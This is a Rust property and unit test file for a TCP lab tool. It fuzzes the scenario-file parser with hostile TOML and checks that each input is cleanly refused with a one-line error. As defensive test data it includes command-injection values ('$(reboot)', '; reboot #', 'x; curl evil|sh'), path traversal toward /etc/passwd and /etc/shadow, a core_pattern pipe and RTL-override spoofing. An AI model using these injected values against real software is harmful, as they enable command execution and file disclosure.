//! Tests with careless or hostile scenario files. Reading and showing them must neither panic nor hang, and
//! each error must have one line.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a test that fails says so")]

use proptest::prelude::*;
use proptest::sample::select;
use tcpwhy_lab::by_hand;
use tcpwhy_path::link::{FrameKind, Link, Wire};
use tcpwhy_scenario::{Flow, Scenario, Work, bundled, random};

/// The English message of an error.
fn words(why: &tcpwhy_model::Message) -> String {
    tcpwhy_report::Catalogue::new(tcpwhy_report::Language::English).message(why)
}

fn in_words(refused: Result<Scenario, tcpwhy_model::Message>) -> String {
    words(&refused.unwrap_err())
}

/// Absurd values, each of which replaces a value of a file.
const ABSURD: [&str; 30] = [
    "\"0B\"",
    "\"1B\"",
    "\"-1MB\"",
    "\"99999999999999999999TB\"",
    "\"0s\"",
    "\"1000000s\"",
    "\"0.0001us\"",
    "\"1e400s\"",
    "\"0bit\"",
    "\"1bit\"",
    "\"1000tbit\"",
    "\"100%\"",
    "\"NaN%\"",
    "\"-0%\"",
    "\"\"",
    "\"a\\nb'; reboot #\\u001b[2J\"",
    "0",
    "-1",
    "9223372036854775807",
    "nan",
    "-inf",
    "1e308",
    "\"$(reboot)\"",
    "\"../../etc/passwd\"",
    "\"\u{202e}txt.exe\"",
    "\"18446744073709551615B\"",
    "\"1e-320s\"",
    "\"TcpExtX; reboot #\"",
    "[]",
    "{}",
];

/// A change to a file.
#[derive(Clone, Debug)]
enum Mutation {
    /// Replaces the n-th value.
    Value(usize, &'static str),
    /// Repeats the n-th line this often.
    Line(usize, usize),
    /// Replaces the n-th character.
    Character(usize, char),
    /// Removes everything after the n-th character.
    Cut(usize),
}

fn mutation() -> impl Strategy<Value = Mutation> {
    let at = any::<usize>;
    prop_oneof![
        6 => (at(), select(&ABSURD[..])).prop_map(|(at, value)| Mutation::Value(at, value)),
        3 => (at(), select(&[0, 0, 2][..])).prop_map(|(at, times)| Mutation::Line(at, times)),
        2 => (at(), any::<char>()).prop_map(|(at, character)| Mutation::Character(at, character)),
        1 => at().prop_map(Mutation::Cut),
    ]
}

/// A bundled scenario, or a random one, as a file without its story.
fn file() -> impl Strategy<Value = String> {
    let all: Vec<Scenario> = bundled::all().chain((0..24).map(|index| random(5, index))).collect();
    select(all).prop_map(|scenario| {
        let mut table: toml::Table = scenario.to_toml().unwrap().parse().unwrap();
        table.remove("story");
        table.to_string()
    })
}

fn mutated(text: &str, mutation: &Mutation) -> String {
    let lines: Vec<&str> = text.lines().collect();
    let characters: Vec<char> = text.chars().collect();
    match *mutation {
        Mutation::Value(at, value) => {
            let starts: Vec<usize> = text.match_indices(" = ").map(|(at, _)| at + 3).collect();
            let Some(&start) = starts.get(at % starts.len().max(1)) else { return text.to_owned() };
            let end = text[start..].find(['\n', ',', '}']).map_or(text.len(), |length| start + length);
            format!("{}{value}{}", &text[..start], &text[end..])
        }
        Mutation::Line(at, times) => {
            let at = at % lines.len().max(1);
            let repeated = |(i, line)| std::iter::repeat_n(line, if i == at { times } else { 1 });
            lines.into_iter().enumerate().flat_map(repeated).collect::<Vec<_>>().join("\n")
        }
        Mutation::Character(at, character) => {
            let at = at % characters.len().max(1);
            characters.iter().enumerate().map(|(i, &old)| if i == at { character } else { old }).collect()
        }
        Mutation::Cut(at) => characters.iter().take(at % characters.len().max(1)).collect(),
    }
}

/// Reads and shows a file, and sends some frames over its link. Returns whether it could be read.
fn read_and_show(text: &str) -> bool {
    let scenario = match Scenario::from_toml("hostile", text) {
        Ok(scenario) => scenario,
        Err(why) => {
            let why = words(&why);
            assert!(why.starts_with("hostile.toml: ") && !why.contains(char::is_control), "{why:?}");
            assert!(!why.contains('\u{202e}'), "{why:?}");
            assert!(why.chars().count() < 500, "{why}");
            return false;
        }
    };
    let written = scenario.to_toml().unwrap();
    assert_eq!(Scenario::from_toml("hostile", &written).as_ref(), Ok(&scenario), "{written}");
    let script = by_hand(&scenario);
    assert!(!script.contains(['\u{1b}', '\u{202e}']), "{script}");
    let powers = scenario.powers().to_string();
    assert!(!powers.contains(char::is_control) && powers.len() < 8192, "{powers}");
    // A scenario's own programs may contain any commands; nothing else in it may reach the shell.
    let is_shell = matches!(scenario.work, Work::Application(_));
    let is_command =
        |line: &str| line.starts_with("b'; reboot") || line.contains("; reboot") || line.contains("$(reboot)");
    let commands: Vec<&str> = script.lines().filter(|line| !line.starts_with('#') && is_command(line)).collect();
    // The value of a setting is one quoted word.
    let is_word = |line: &&str| ["='$(reboot)'", "='TcpExtX; reboot #'"].iter().any(|word| line.ends_with(word));
    assert!(is_shell || commands.iter().all(is_word), "{commands:?}");
    for flow in [Flow::Forward, Flow::Back] {
        let mut link = Link::new(&scenario.link, flow, scenario.seed);
        link.begin(1);
        for frame in 0..200 {
            link.accept(1 + frame * 1000, Wire { bytes: 1514, kind: FrameKind::Data, is_ecn_capable: false }, ());
            let _ = (link.next_due(), link.last_due(u64::MAX / 2), link.deliver(1 + frame * 1000));
        }
        while link.deliver(u64::MAX / 2).is_some() {}
    }
    true
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]
    #[test]
    fn mutated_files_are_read_or_refused(text in file(), mutations in prop::collection::vec(mutation(), 1..6)) {
        read_and_show(&mutations.iter().fold(text, |text, mutation| mutated(&text, mutation)));
    }

    #[test]
    fn any_text_is_read_or_refused(text in "\\PC{0,200}|(.|\n){0,200}|[\\[\\]{}=\",.a-z0-9 \n]{0,200}") {
        read_and_show(&text);
    }
}

#[test]
fn files_as_they_are_are_read() {
    for scenario in bundled::all() {
        assert!(read_and_show(bundled::text(&scenario.name).unwrap()), "{}", scenario.name);
    }
}

#[test]
fn deep_nesting_is_refused() {
    assert!(!read_and_show(&format!("link = {}", "[".repeat(200_000))));
    assert!(!read_and_show(&format!("link = {}", "{a = ".repeat(200_000))));
    assert!(!read_and_show(&format!("a{} = 1", ".a".repeat(200_000))));
}

/// Large values in a file must need memory in proportion to the file, and little time.
#[test]
fn large_files_are_read_in_time() {
    let many = |what: &str, count: usize| vec![what; count].join(", ");
    let stream = |phases: &str| format!("expect = {{ verdict = [] }}\n[work.stream]\nphases = [{phases}]\n");
    let around = |what: &str| format!("{what}\n{}", stream("{ bytes = \"1kB\" }"));
    let start = std::time::Instant::now();
    let files = [
        stream(&many("{ bytes = \"9000000TB\" }", 20_000)),
        format!(
            "expect = {{ verdict = [] }}\n[work.turns]\ncount = 4294967295\nrequest = [{0}]\nresponse = [{0}]\n",
            many("\"64MiB\"", 50_000)
        ),
        around(&format!("link = {{ forward = {{ lose_data = [{}] }} }}", many("9223372036854775807", 50_000))),
        around(&format!("link = {{ change = [{}] }}", many("{ at = \"1s\", to = { loss = \"1%\" } }", 10_000))),
        around(&format!("sender = {{ sysctl = {{ \"net.ipv4.tcp_sack\" = \"{}\" }} }}", "1 ".repeat(500_000))),
        around(&format!("seed = 1 # {}", "x".repeat(1_000_000))),
    ];
    for text in files {
        read_and_show(&text);
    }
    assert!(!read_and_show(&around(&format!("seed = {}", "9".repeat(1_000_000)))));
    assert!(start.elapsed().as_secs() < 60, "{:?}", start.elapsed());
}

/// The name of a scenario becomes part of paths, commands and pages, so it must not contain their syntax.
#[test]
fn a_name_leads_nowhere() {
    let text = "name = \"../../etc/x\"\nexpect = { verdict = [] }\n[work.stream]\nphases = [{ bytes = \"1kB\" }]\n";
    assert_eq!(Scenario::from_toml("mine", text).unwrap().name, "mine", "the file's own name counts");
    for good in ["a", "sndbuf-16k", "my scenario", "测试", "é.2"] {
        assert!(Scenario::from_toml(good, text).is_ok(), "{good}");
    }
    let long = "x".repeat(201);
    for bad in ["", ".", "..", ".hidden", "a/b", "../x", "a\\b", "a\nb", "a\u{1b}[2J", "a\u{202e}b", "\u{feff}a", &long]
    {
        let why = in_words(Scenario::from_toml(bad, text));
        assert!(why.contains("name") || why.contains("called"), "{bad:?}: {why}");
        assert!(!why.contains(|c: char| c.is_control() || c == '\u{202e}'), "{why:?}");
    }
}

/// The error of a scenario with a stream of 1 MB and this text.
fn refusal(what: &str) -> String {
    let stream = "[work.stream]\nphases = [{ bytes = \"1MB\" }]";
    let work = if what.contains("[work") { "" } else { stream };
    in_words(Scenario::from_toml("x", &format!("expect = {{ verdict = [\"none\"] }}\n{what}\n{work}")))
}

#[test]
fn absurd_values_are_refused_by_what_is_wrong() {
    for (what, part) in [
        ("link = { rtt = \"20 parsecs\" }", "line 2: link.rtt: \"20 parsecs\": expected a time such as"),
        ("link = { rtt = \"60s\" }", "expected a one-way delay of at most 5s, not 30s"),
        ("link = { jitter = \"1s\" }", "unknown field `jitter`"),
        ("link = { forward = { jitter = \"9s\" } }", "at most 5s"),
        ("link = { forward = { reorder_by = \"9s\" } }", "at most 5s"),
        ("link = { rate = \"0bit\" }", "expected a bandwidth from"),
        ("link = { back = { loss = \"101%\" } }", "expected a share"),
        ("link = { forward = { lose_every = 0 } }", "counted from 1"),
        ("link = { forward = { burst = { chance = \"1%\", mean = nan } } }", "mean burst length"),
        ("link = { forward = { ce_threshold = \"9s\" } }", "at most 5s"),
        ("link = { back = { mtu = 67 } }", "link.back.mtu: expected a path MTU from 68 to 65535, not 67"),
        ("link = { forward = { mtu = 65536 } }", "not 65536"),
        ("link = { forward = { clamp_mss = 87 } }", "expected an MSS from 88 to 65495, not 87"),
        ("link = { forward = { clamp_mss = 65496 } }", "not 65496"),
        ("sender = { keep_alive = \"900ms\" }", "whole seconds from 1s to 32767s"),
        ("sender = { keep_alive = \"1500ms\" }", "whole seconds"),
        ("receiver = { keep_alive = \"32768s\" }", "not 32768s"),
        ("sender = { sndbuf = \"4GiB\" }", "at most 2147483647 bytes"),
        ("receiver = { rcvbuf = \"-1B\" }", "expected a size"),
        ("sender = { congestion_control = \"\\\"); import os\" }", "no congestion control is called"),
        ("sender = { congestion_control = \"sixteen_letters_\" }", "no congestion control is called"),
        ("sender = { sysctl = { \"net.ipv4/../../kernel.panic\" = \"1\" } }", "no network setting"),
        ("sender = { sysctl = { \"net.ipv4.tcp_sack\" = \"1\\n2\" } }", "the value must be a single line"),
        (
            "sender = { sysctl = { \"net.core.wmem_max\" = \"1\" } }\nreceiver = { sysctl = { \"net.core.wmem_max\" = \"2\" } }",
            "cannot differ between the two ends",
        ),
        ("deadline = \"0s\"", "the deadline must be larger than 0"),
        ("deadline = \"3601s\"", "expected a deadline of at most 3600s, not 3601s"),
        ("deadline = \"1000000s\"", "at most"),
        ("sender = { sysctl = { \"net.ipv4.tcp_sack\" = \"1\\u202e\" } }", "the value must be a single line"),
        ("sender = { sysctl = { \"kernel.core_pattern\" = \"|/x\" } }", "no network setting"),
        ("sender = { sysctl = { \"net.ipv4.../../kernel/panic\" = \"1\" } }", "no network setting"),
        (
            "story = { source = \"\", en = { title = \"\\u202ex\", text = \"\" }, zh-CN = { title = \"\", text = \"\" } }",
            "titles and sources must be a single line",
        ),
        (
            "story = { source = \"\", en = { title = \"\", text = \"\\u2066x\" }, zh-CN = { title = \"\", text = \"\" } }",
            "invisible characters",
        ),
        ("seed = -1", "line 2: seed: -1: invalid value"),
        ("mtu = 0", "expected an MTU from 552 to 65535, not 0"),
        ("ip_version = 5", "4 or 6, not 5"),
        (
            "story = { source = \"\", en = { title = \"a\\nb\", text = \"\" }, zh-CN = { title = \"\", text = \"\" } }",
            "titles and sources must be a single line",
        ),
        (
            "[work.stream]\nphases = []\n[work.turns]\ncount = 1\nrequest = [\"1B\"]\nresponse = [\"1B\"]",
            "x.toml: line 2: work: [work.stream] and [work.turns] exclude each other",
        ),
        ("[work]", "add one of [work.stream], [work.turns], [work.talk], [work.application]"),
        (
            "[work.strem]\nphases = []",
            "line 2: work.strem: unknown field `strem`, expected one of `stream`, `turns`, `talk`, `application`",
        ),
        ("[work.stream]\nphases = []", "at least one phase"),
        (
            "[work.stream]\nphases = [{ bytes = \"1B\", write = { size = \"1TB\" } }]",
            "expected a size per call from 1B to 64MiB",
        ),
        ("[work.stream]\nphases = [{ bytes = \"1B\", read = { size = \"0B\" } }]", "expected a size per call from 1B"),
        ("[work.stream]\nphases = [{ bytes = \"1B\", read = { rate = \"1mbit\" } }]", "need every"),
        (
            "[work.stream]\nphases = [{ bytes = \"1B\", read = { rate = \"1mbit\", every = \"0s\" } }]",
            "every and portion must be larger than 0",
        ),
        ("[work.turns]\ncount = 0\nrequest = [\"1B\"]\nresponse = [\"1B\"]", "at least one turn"),
        ("[work.turns]\ncount = 4294967296\nrequest = [\"1B\"]\nresponse = [\"1B\"]", "invalid value"),
        ("[work.turns]\ncount = 1\nrequest = [\"0B\"]\nresponse = [\"1B\"]", "expected a size per call from 1B"),
        (
            "[work.application]\nport = 0\npackages = []\nserver = { needs = [], run = \"\" }\nclient = { needs = [], run = \"\" }",
            "expected a server's port from 1 to 65535",
        ),
        (
            "[work.application]\nport = 1\npackages = []\nserver = { needs = [], run = \"a\\nSCRIPT\\nb\" }\nclient = { needs = [], run = \"\" }",
            "a script must not contain the line SCRIPT",
        ),
        (
            "[work.application]\nport = 1\npackages = []\nserver = { needs = [], run = \"a\\u202eb\" }\nclient = { needs = [], run = \"\" }",
            "invisible characters",
        ),
        (
            "[work.application]\nport = 1\npackages = [\"x; curl evil|sh\"]\nserver = { needs = [], run = \"\" }\nclient = { needs = [], run = \"\" }",
            "no program or package is called \"x; curl evil|sh\"",
        ),
        (
            "[work.application]\nport = 1\npackages = [\"--allow-downgrades\"]\nserver = { needs = [], run = \"\" }\nclient = { needs = [], run = \"\" }",
            "no program or package",
        ),
        (
            "[work.application]\nport = 1\npackages = []\nserver = { needs = [\"/etc/shadow\"], run = \"\" }\nclient = { needs = [], run = \"\" }",
            "no program or package",
        ),
    ] {
        let why = refusal(what);
        assert!(why.starts_with("x.toml: ") && why.contains(part), "{what}: {why}");
        assert!(!why.contains('\n'), "{what}: {why}");
    }
    let injected = "expect = { verdict = [], counters = { sender = [\"TcpExtX; reboot #\"] } }\n[work.stream]\nphases = [{ bytes = \"1B\" }]";
    assert!(in_words(Scenario::from_toml("x", injected)).contains("not a TCP counter"));
    let ratio = "expect = { verdict = [], ratio = [{ to = \"x\", at_least = nan }] }\n[work.stream]\nphases = [{ bytes = \"1B\" }]";
    assert!(in_words(Scenario::from_toml("x", ratio)).contains("expected a ratio between"));
}

/// An impossible value is refused with its key and line.
#[test]
fn impossible_values_are_refused_with_key_and_line() {
    let work = "[work.stream]\nphases = [\n  { bytes = \"1MB\" },\n  { bytes = \"1MB\" },\n]\n";
    for (text, said) in [
        (
            format!("[link]\nrate = \"900tbit\"\n{work}"),
            "x.toml: line 2: link.rate: expected a rate from 8kbit to 100gbit",
        ),
        (
            format!("[link]\nrtt = \"1ms\"\nqueue = \"1\"\n{work}"),
            "x.toml: line 3: link.queue: expected a queue from 1538B (one frame",
        ),
        (
            format!("mtu = 9000\n[link.back]\nqueue = \"2kB\"\n{work}"),
            "x.toml: line 3: link.back.queue: expected a queue from 9038B",
        ),
        (work.replacen("1MB", "0", 1), "x.toml: line 3: work.stream.phases[0].bytes: a phase needs at least 1B"),
        (work.replace("1MB\" },\n]", "0\" },\n]"), "x.toml: line 4: work.stream.phases[1].bytes"),
        (
            format!("[link.forward.policer]\nrate = \"1mbit\"\nburst = \"100B\"\n{work}"),
            "x.toml: line 3: link.forward.policer.burst",
        ),
        (format!("[sender]\ninitcwnd = 0\n{work}"), "x.toml: line 2: sender.initcwnd: expected 1 to 65535 segments"),
        (
            format!("[sender]\nrto_min = \"1500us\"\n{work}"),
            "x.toml: line 2: sender.rto_min: expected whole milliseconds from 1ms to 120s",
        ),
        (format!("[receiver]\nnic = \"1bit\"\n{work}"), "x.toml: line 2: receiver.nic: expected a rate from"),
        (
            format!("[[link.change]]\nat = \"1s\"\nto = {{ rate = \"1bit\" }}\n{work}"),
            "x.toml: line 3: link.change[0].to.rate",
        ),
    ] {
        let why = in_words(Scenario::from_toml("x", &text));
        assert!(why.starts_with(said), "{text}: {why}");
    }
}

#[test]
fn what_may_be_left_out() {
    let text = "[work.application]\nport = 80\nserver = { run = \"exec server\", ready = \"true\" }\nclient = { run = \"exec client\" }";
    let scenario = Scenario::from_toml("x", text).unwrap();
    assert_eq!(scenario.expect.verdict, []);
    assert_eq!(Scenario::from_toml("x", &scenario.to_toml().unwrap()), Ok(scenario.clone()));
    // The user sees the commands before permitting them, and the script by hand contains them too.
    assert!(scenario.powers().to_string().contains("server: \"true\""));
    assert!(by_hand(&scenario).contains("-ready"));
    let client = text.replace("run = \"exec client\"", "run = \"x\", ready = \"true\"");
    assert!(in_words(Scenario::from_toml("x", &client)).contains("work.application.client.ready"));
}

/// The reason is before the value in the message, and the valid form after it.
#[test]
fn a_key_of_any_length_is_refused_in_a_line() {
    for sign in ["K", "\u{fffd}", "\t", "发"] {
        let why = in_words(Scenario::from_toml("x", &format!("\"{}\" = 1", sign.repeat(5000).replace('\t', "\\t"))));
        assert!(why.chars().count() <= 401 && why.contains("unknown field") && why.contains("`link`"), "{why}");
    }
}
